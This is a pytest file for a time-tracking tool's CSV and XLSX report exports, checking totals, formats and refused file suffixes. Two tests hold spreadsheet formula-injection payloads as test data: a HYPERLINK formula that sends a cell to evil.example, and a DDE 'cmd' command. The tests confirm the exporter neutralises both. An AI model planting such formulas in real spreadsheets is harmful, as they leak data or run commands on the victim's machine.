"""``-o`` picks the format by suffix (issue 15 point 4): the timesheet and the invoice lines as
CSV and XLSX add up to the PDF's own totals; any other suffix is refused and nothing is written;
text that a spreadsheet would evaluate stays text."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from memo_analytics.config import Settings
from memo_analytics.services.requests import EndSessionRequest, StartSessionRequest
from memo_analytics.services.sessions import end_session, start_session
from memo_analytics.services.store import VaultStore

from .test_cli import grand_total, memo, pdf_text
from .test_invoice import check_invoice_arithmetic, config, vault  # noqa: F401 - the fixtures

FILTERS = ("--all", "--since", "2026-03-01", "--until", "2026-03-31", "--tz", "UTC")


def rows_of_csv(path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: spreadsheets read accents and CJK right
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_timesheet_csv_and_xlsx_rows_add_up_to_the_pdf_total(vault, config, tmp_path):
    memo("report", "timesheet", *FILTERS, "-o", str(tmp_path / "t.pdf"), vault=vault, env=config)
    pdf_hours = Decimal(grand_total(pdf_text(tmp_path / "t.pdf")))
    as_csv = json.loads(memo("--json", "report", "timesheet", *FILTERS, "-o", str(tmp_path / "t.csv"), vault=vault,
                             env=config).stdout)
    rows = rows_of_csv(tmp_path / "t.csv")
    assert len(rows) == 8  # the 8 billable sessions that ended (the open and the non-billable one are not rows)
    assert sum(Decimal(r["billableHours"]) for r in rows) == pdf_hours == Decimal(f"{as_csv['totalBillableHours']:.2f}")
    assert sum(int(r["billedMinutes"]) for r in rows) == as_csv["totalDurationMinutes"] == 247  # 20+20+20+95 (Acme) + 10+50+7 (Globex) + 25 (Initech)
    memo("report", "timesheet", *FILTERS, "-o", str(tmp_path / "t.xlsx"), vault=vault, env=config)
    sheet = load_workbook(tmp_path / "t.xlsx").active
    header = [c.value for c in sheet[1]]
    data = [dict(zip(header, (c.value for c in row))) for row in sheet.iter_rows(min_row=2, max_row=9)]
    assert [r["client"] for r in data] == [r["client"] for r in rows]
    # found by a new user: days were text cells a bookkeeper could not filter or sort by date
    assert [r["date"].date().isoformat() for r in data] == [r["date"] for r in rows]
    assert {sheet.cell(row=n, column=header.index("date") + 1).number_format for n in range(2, 10)} == {"yyyy-mm-dd"}
    assert sum(Decimal(str(r["billableHours"])) for r in data) == pdf_hours
    # found by an analyst: the total was a row under the sessions (pandas summed it in, twice the hours)
    assert sheet.max_row == 9 and sheet.auto_filter.ref == f"A1:{sheet.cell(row=9, column=len(header)).coordinate}"
    totals = load_workbook(tmp_path / "t.xlsx")["Totals"]
    assert [c.value for c in totals[1]] == header
    summed = [dict(zip(header, (c.value for c in row))) for row in totals.iter_rows(min_row=2)]
    *subtotals, total = summed
    assert (total["client"], total["billedMinutes"], Decimal(str(total["billableHours"]))) == ("Total", 247, pdf_hours)
    # found by a billing person: the Totals sheet had the grand total alone, the PDF each client's subtotal too
    assert [(r["client"], r["billedMinutes"]) for r in subtotals] == [("Acme Corp", 155), ("Globex", 67),
                                                                      ("Initech", 25)]
    by_client: dict[str, Decimal] = {}
    for row in rows:
        by_client[row["client"]] = by_client.get(row["client"], Decimal(0)) + Decimal(row["billableHours"])
    assert {r["client"]: Decimal(str(r["billableHours"])) for r in subtotals} == by_client
    # found by a billing person: the worked minutes had no total (a bookkeeper summed them by hand)
    assert total["workedMinutes"] == sum(int(r["workedMinutes"]) for r in rows) > 0


@pytest.mark.parametrize("lines", ["project", "session"])
def test_invoice_csv_and_xlsx_lines_add_up_to_the_pdf_totals(vault, config, tmp_path, lines):
    memo("report", "invoice", *FILTERS, "--lines", lines, "-o", str(tmp_path / "i.pdf"), vault=vault, env=config)
    pdf_totals = check_invoice_arithmetic(pdf_text(tmp_path / "i.pdf"))  # {currency: (hours, net)}
    memo("report", "invoice", *FILTERS, "--lines", lines, "-o", str(tmp_path / "i.csv"), vault=vault, env=config)
    rows = rows_of_csv(tmp_path / "i.csv")
    from_csv: dict[str, tuple[Decimal, Decimal]] = {}
    for row in rows:
        hours, amount = from_csv.get(row["currency"], (Decimal(0), Decimal(0)))
        from_csv[row["currency"]] = (hours + Decimal(row["hours"]), amount + Decimal(row["amount"]))
    assert from_csv == pdf_totals
    memo("report", "invoice", *FILTERS, "--lines", lines, "-o", str(tmp_path / "i.xlsx"), vault=vault, env=config)
    sheet = load_workbook(tmp_path / "i.xlsx").active
    header = [c.value for c in sheet[1]]
    lines_ = [dict(zip(header, (c.value for c in row))) for row in sheet.iter_rows(min_row=2)]
    assert [(r["currency"], Decimal(str(r["amount"]))) for r in lines_] == [(r["currency"], Decimal(r["amount"]))
                                                                          for r in rows]
    totals = [dict(zip(header, (c.value for c in row))) for row in load_workbook(tmp_path / "i.xlsx")["Totals"]
              .iter_rows(min_row=2)]
    nets = {r["currency"]: Decimal(str(r["amount"])) for r in totals if str(r["client"]).startswith("Net")}
    assert nets == {currency: net for currency, (_, net) in pdf_totals.items()}


@pytest.mark.parametrize("name", ["june.txt", "june.CSV.bak", "june", "june.xls"])
def test_another_suffix_is_refused_and_nothing_is_written(vault, config, tmp_path, name):
    for report in ("timesheet", "invoice"):
        ran = memo("report", report, *FILTERS, "-o", str(tmp_path / name), vault=vault, env=config, check=False)
        assert (ran.returncode, ran.stderr.strip()) == (
            1, f"error: Invalid output: {tmp_path / name} must end with .pdf, .csv or .xlsx (the suffix picks the format)")
    assert list(tmp_path.glob("june*")) == []


def test_text_a_spreadsheet_would_evaluate_stays_text(tmp_path):
    root = tmp_path / "vault"
    store = VaultStore(Settings(vault_root=root, timezone="UTC"))
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    start_session(store, StartSessionRequest(session_id="x1", project="web", client="Acme Corp", task_slug=None,
                                             summary=evil, start_time="2026-03-02T09:00:00Z"))
    end_session(store, EndSessionRequest(session_id="x1", until="2026-03-02T10:00:00Z"))
    store.close()
    memo("report", "timesheet", "--all", "-o", str(tmp_path / "t.csv"), vault=root)
    [row] = rows_of_csv(tmp_path / "t.csv")
    assert (row["task"], row["summary"]) == ("", "'" + evil)
    memo("report", "timesheet", "--all", "-o", str(tmp_path / "t.xlsx"), vault=root)
    cell = load_workbook(tmp_path / "t.xlsx").active["F2"]
    assert (cell.value, cell.data_type) == (evil, "s")


def test_a_semicolon_reader_and_control_characters_cannot_break_the_exports(tmp_path):
    """A breaker's cases: a reader that splits on ';' (the German list separator) still sees one
    cell; a summary with an escape sequence still exports to XLSX (the character dropped)."""
    root = tmp_path / "vault"
    store = VaultStore(Settings(vault_root=root, timezone="UTC"))
    start_session(store, StartSessionRequest(session_id="x1", project="web", client="Acme Corp",
                                             summary="fix login;=cmd|' /C calc'!A0", start_time="2026-03-02T09:00:00Z"))
    end_session(store, EndSessionRequest(session_id="x1", until="2026-03-02T10:00:00Z"))
    start_session(store, StartSessionRequest(session_id="x2", project="web", client="Acme Corp",
                                             summary="\x1b[31mRED\x1b[0m", start_time="2026-03-03T09:00:00Z"))
    end_session(store, EndSessionRequest(session_id="x2", until="2026-03-03T10:00:00Z"))
    store.close()
    memo("report", "timesheet", "--all", "-o", str(tmp_path / "t.csv"), vault=root)
    raw = (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
    assert "\"fix login;=cmd|' /C calc'!A0\"" in raw  # quoted: one cell for a ';' reader too
    assert [row[3] for row in csv.reader(io.StringIO(raw), delimiter=";") if len(row) > 3] == []  # no ';' split
    memo("report", "timesheet", "--all", "-o", str(tmp_path / "t.xlsx"), vault=root)
    cells = [c.value for c in load_workbook(tmp_path / "t.xlsx").active["F"]]
    assert "[31mRED[0m" in cells


def test_the_timesheet_table_says_what_a_session_worked_what_it_bills_and_why(tmp_path):
    """A 4-minute session of a client that bills at least 30: its row keeps the span it ran
    (12:00–12:04, 4 minutes worked), the 30 minutes it bills (which add up to the total), the
    reason in ``note`` — not among the deliverables — and its task, summary and deliverable each in
    their own column; numbers are numbers (not quoted) in the CSV."""
    root = tmp_path / "vault"
    store = VaultStore(Settings(vault_root=root, timezone="UTC"))
    start_session(store, StartSessionRequest(session_id="s1", project="web", client="Acme Corp", task_slug="fix-login",
                                             summary="Fixed the login", start_time="2026-03-02T12:00:00Z"))
    end_session(store, EndSessionRequest(session_id="s1", until="2026-03-02T12:04:00Z",
                                         deliverables=[{"type": "pr", "url": "https://example.com/pr/7"}]))
    store.close()
    config = tmp_path / "config.toml"
    config.write_text('[clients."Acme Corp"]\nhourlyRate = "100"\ncurrency = "EUR"\nminimumMinutes = 30\n',
                      encoding="utf-8")
    env = {"MEMO_CONFIG": str(config)}
    memo("report", "timesheet", "--all", "--tz", "UTC", "-o", str(tmp_path / "t.csv"), vault=root, env=env)
    [row] = rows_of_csv(tmp_path / "t.csv")
    assert {k: row[k] for k in ("sessionId", "task", "summary", "start", "end", "workedMinutes", "billedMinutes",
                                "billableHours", "note", "deliverables")} == {
        "sessionId": "s1", "task": "fix-login", "summary": "Fixed the login", "start": "12:00", "end": "12:04",
        "workedMinutes": "4", "billedMinutes": "30", "billableHours": "0.50",
        "note": "billed 30 minutes (the client's rounding)", "deliverables": "https://example.com/pr/7"}
    assert (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()[1].endswith(
        ',4,30,0.50,"billed 30 minutes (the client\'s rounding)","https://example.com/pr/7",'
        '"2026-03-02T12:00:00+00:00","2026-03-02T12:04:00+00:00"')
    # the PDF's foot says how the client's terms bill, as the invoice's does
    memo("report", "timesheet", "--all", "--tz", "UTC", "-o", str(tmp_path / "t.pdf"), vault=root, env=env)
    foot = " ".join(pdf_text(tmp_path / "t.pdf").split())
    assert ("Acme Corp: each session is billed at least 30 minutes; then a session beside an earlier one of the "
            "client bills only the minutes that one did not cover (the client's terms); the duration and hours of "
            "each row are those billed.") in foot


def test_the_timesheet_table_gives_each_span_as_instants_a_spreadsheet_or_pandas_reads(tmp_path):
    """An analyst's complaint: ``start``/``end`` are clock times (``22:40``, ``01:15 (+1d)``) and the
    zone is only in the console line. ``startTime``/``endTime`` give the same span as ISO 8601
    instants with the zone's offset: a session across midnight in Berlin loads as its own minutes."""
    import polars as pl

    root = tmp_path / "vault"
    store = VaultStore(Settings(vault_root=root, timezone="UTC"))
    start_session(store, StartSessionRequest(session_id="night", project="web", client="Acme Corp",
                                             start_time="2026-03-05T21:40:00Z"))
    end_session(store, EndSessionRequest(session_id="night", until="2026-03-06T00:15:00Z"))
    store.close()
    memo("report", "timesheet", "--all", "--tz", "Europe/Berlin", "-o", str(tmp_path / "t.csv"), vault=root)
    [row] = rows_of_csv(tmp_path / "t.csv")
    assert (row["start"], row["end"]) == ("22:40", "01:15 (+1d)")
    assert (row["startTime"], row["endTime"]) == ("2026-03-05T22:40:00+01:00", "2026-03-06T01:15:00+01:00")
    frame = pl.read_csv(tmp_path / "t.csv").with_columns(
        pl.col("startTime", "endTime").str.to_datetime(time_zone="UTC"))
    assert ((frame["endTime"] - frame["startTime"]).dt.total_minutes() == frame["workedMinutes"]).all()


def test_the_timesheet_table_says_whose_each_row_is_and_what_the_pdf_calls_it(tmp_path):
    """Found by a team lead (a whole team's timesheet said no one's name) and a billing person
    (a session of no task nor summary was "Work on web" in the PDF, empty in the CSV)."""
    root = tmp_path / "vault"
    store = VaultStore(Settings(vault_root=root, timezone="UTC"))
    for sid, owner, start in (("s1", "ana@team.test", "09:00"), ("s2", "ben@team.test", "11:00")):
        start_session(store, StartSessionRequest(session_id=sid, project="web", client="Acme Corp", owner=owner,
                                                 start_time=f"2026-03-02T{start}:00Z"))
        end_session(store, EndSessionRequest(session_id=sid, project="web", until=f"2026-03-02T{start[:2]}:45:00Z"))
    store.close()
    memo("report", "timesheet", "--all", "--tz", "UTC", "-o", str(tmp_path / "t.csv"), vault=root)
    assert [(r["sessionId"], r["owner"], r["description"], r["task"]) for r in rows_of_csv(tmp_path / "t.csv")] == [
        ("s1", "ana@team.test", "Work on web", ""), ("s2", "ben@team.test", "Work on web", "")]


def test_each_invoice_xlsx_column_holds_one_type_with_its_days_as_dates(vault, config, tmp_path):
    """Found by a bookkeeper: the invoice lines' ``date`` column held a date where a line was one
    day and the text "2025-09-03 – 2025-09-07" where it spanned days (pandas: dtype object, a
    filter by date broke). ``date`` is the printed text in every row; ``from``/``to`` the days."""
    import datetime as dt

    memo("report", "invoice", *FILTERS, "-o", str(tmp_path / "i.xlsx"), vault=vault, env=config)
    sheet = load_workbook(tmp_path / "i.xlsx")["Invoice lines"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in row))) for row in sheet.iter_rows(min_row=2)]
    assert {type(r["date"]) for r in rows} == {str} and any(" – " in r["date"] for r in rows)
    assert all(isinstance(r["from"], dt.datetime) and isinstance(r["to"], dt.datetime) and r["from"] <= r["to"]
               for r in rows)
    spanned = next(r for r in rows if " – " in r["date"])
    assert spanned["date"] == f"{spanned['from']:%Y-%m-%d} – {spanned['to']:%Y-%m-%d}"
    as_csv = memo("report", "invoice", *FILTERS, "-o", str(tmp_path / "i.csv"), vault=vault, env=config)
    assert as_csv.returncode == 0 and rows_of_csv(tmp_path / "i.csv")[0]["from"] == f"{rows[0]['from']:%Y-%m-%d}"
